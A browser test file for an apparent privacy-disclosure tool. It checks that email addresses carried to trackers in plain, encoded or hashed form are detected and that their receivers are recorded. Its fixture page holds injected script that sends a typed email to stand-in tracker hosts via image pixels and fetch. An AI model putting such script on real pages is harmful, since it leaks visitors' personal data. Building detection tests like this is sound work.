import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { TRACE_VARIANTS, type TraceVariant } from '../../src/disclosure/schema';
import { BROWSERS, DASHBOARD } from './browsers';
import { addContest, answerQuestions, finderIn, QUESTIONS } from './small-contest';
import { setStage } from './stage';
import { VISITOR } from './visitor';

const HOSTS = [...TRACE_VARIANTS.map((variant) => `${variant}.mesure.test`), 'pixel.regie.test', 'cdn.police.test'];
const { email } = VISITOR;

/** What a tracker puts into its address for each form. */
const CARRIED: Record<TraceVariant, string> = {
  plain: email,
  'url-encoded': encodeURIComponent(email),
  base64: Buffer.from(JSON.stringify({ em: email })).toString('base64url'),
  hex: Buffer.from(email).toString('hex'),
  md5: createHash('md5').update(email).digest('hex'),
  sha1: createHash('sha1').update(email).digest('hex'),
  sha256: createHash('sha256').update(email).digest('hex'),
  sha512: createHash('sha512').update(email).digest('base64url'),
};

/** A contest whose page tells others: pictures when the address has been typed, a request when the form is sent. */
function leakingPage(port: number, carried: Record<string, string>, onSending: string): string {
  const addresses = Object.entries(carried).map(([form, value]) => `http://${form}.mesure.test:${port}/tr?v=${value}`);
  return `<form>${QUESTIONS}<button id="envoyer">Je participe</button></form>
    <script>
      document.querySelector('[name=email]').addEventListener('change', () => {
        for (const address of ${JSON.stringify(addresses)}) new Image().src = address;
      });
      document.querySelector('form').addEventListener('submit', async (event) => {
        event.preventDefault();
        fetch('http://pixel.regie.test:${port}/c?em=${onSending}', { mode: 'no-cors' });
        await post();
        thank();
      });
    </script>`;
}

describe.each(BROWSERS)('requests that carry a typed address, in %s', (kind) => {
  const stage = setStage(kind, { hosts: HOSTS });

  async function enter(body: string) {
    const page = await stage.open(addContest(stage.site, 'mesure', body));
    await stage.announced(page);
    await answerQuestions(finderIn(page));
    // The pictures have been answered by the time that a person comes to the button.
    await page.waitForNetworkIdle({ idleTime: 300 });
    await (await finderIn(page)('#envoyer'))?.click();
    await page.waitForSelector('#merci');
    await stage.kept(1);
  }

  it('are noticed in every form, before sending and on it, and make their receivers holders', async () => {
    await enter(leakingPage(stage.site.port, CARRIED, CARRIED.sha256));
    const seen = async () =>
      (await stage.rows()).holdings
        .flatMap(({ claims }) => claims.flatMap(({ observed = [] }) => observed))
        .map(({ host, kind, variant, moment }) => `${host.split(':')[0]} ${kind} ${variant} ${moment}`)
        .sort();
    const expected = TRACE_VARIANTS.map((variant) => `${variant}.mesure.test email ${variant} before-sending`);
    await expect
      .poll(seen, { timeout: 12_000 })
      .toEqual([...expected, 'pixel.regie.test email sha256 on-sending'].sort());
    const rows = await stage.rows();
    expect(rows.holders.map(({ name }) => name).sort()).toEqual(expect.arrayContaining(['mesure.test', 'regie.test']));
    expect(JSON.stringify(rows)).not.toContain(email);
    const room = await stage.driver.openOwn(`${DASHBOARD}#/disclosure/${rows.disclosures[0]?.id}`);
    await room.waitForFunction(() => document.body.innerText.includes('sha512.mesure.test'));
    expect(await room.evaluate(() => document.body.innerText)).toMatch(/SHA-256, (?:vers|to) sha256\.mesure\.test/);
  });

  it('are told from requests of the same page that carry nothing', async () => {
    const innocent = Object.fromEntries(
      TRACE_VARIANTS.map((variant, n) => [variant, CARRIED[variant].replace(/[a-z]/g, n % 2 ? 'b' : 'c')]),
    );
    await enter(
      leakingPage(stage.site.port, innocent, createHash('sha256').update('autre@exemple.test').digest('hex')),
    );
    await new Promise((resolve) => setTimeout(resolve, 1_500));
    const { holders, holdings } = await stage.rows();
    expect(holdings.filter(({ role }) => role === 'observed')).toEqual([]);
    expect(holders.map(({ name }) => name)).not.toContain('mesure.test');
    expect(stage.site.asked.filter(({ host }) => host.endsWith('.mesure.test')).length).toBe(TRACE_VARIANTS.length);
  });
});
